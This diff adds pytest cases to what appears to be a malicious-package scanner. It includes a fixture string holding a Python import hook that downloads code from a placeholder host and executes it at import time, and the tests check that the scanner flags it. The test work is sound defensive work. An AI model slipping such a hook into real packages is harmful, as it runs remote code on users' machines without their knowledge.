@@ -153,3 +153,45 @@ def test_evidence_in_a_pytest_plugin_fails(tmp_path):
     result = scan(tmp_path, files, wheel=True)
     assert max(f.severity.rank for f in result.findings) >= H.rank
     assert any(f.rule == "download-exec" and f.severity.rank >= H.rank for f in result.findings)
+
+
+REMOTE_IMPORTER = """\
+import importlib.abc, importlib.util, sys, urllib.request
+
+class _Loader(importlib.abc.Loader):
+    def create_module(self, spec):
+        return None
+
+    def exec_module(self, module):
+        exec(urllib.request.urlopen("https://example.invalid/" + module.__name__).read(), module.__dict__)
+
+class _Finder:
+    def find_spec(self, name, path, target=None):
+        return importlib.util.spec_from_loader(name, _Loader()) if name == "core" else None
+
+{register}
+"""
+
+
+@pytest.mark.parametrize(("register", "severity"), [
+    ("sys.meta_path.append(_Finder())", Severity.CRITICAL),  # duck-typed finder, registered
+    ("sys.meta_path.insert(0, _Finder())\nimport core", Severity.CRITICAL),
+    ("def install():\n    sys.meta_path.append(_Finder())", Severity.LOW),  # only when called
+])
+def test_an_import_hook_registered_at_import_runs_its_loader(tmp_path, register, severity):
+    files = {"demo/__init__.py": REMOTE_IMPORTER.format(register=register)}
+    result = scan(tmp_path, files, wheel=True)
+    (found,) = [f for f in result.findings if f.rule == "download-exec"]
+    assert found.severity is severity, found.message
+
+
+def test_a_local_importer_like_six_stays_information(tmp_path):
+    six_like = ("import sys\n\nclass _Importer:\n    def __init__(self, name):\n        self.known = {}\n\n"
+                "    def find_spec(self, fullname, path, target=None):\n"
+                "        return None if fullname not in self.known else fullname\n\n"
+                "    def load_module(self, fullname):\n        mod = __import__(self.known[fullname])\n"
+                "        sys.modules[fullname] = mod\n        return mod\n\n"
+                "sys.meta_path.append(_Importer(__name__))\n")
+    result = scan(tmp_path, {"demo/__init__.py": six_like}, wheel=True)
+    assert all(f.severity.rank <= L.rank for f in result.findings), [f.message for f in result.findings]
+    assert any(f.rule == "dynamic-import" and "runs on import" in f.message for f in result.findings)
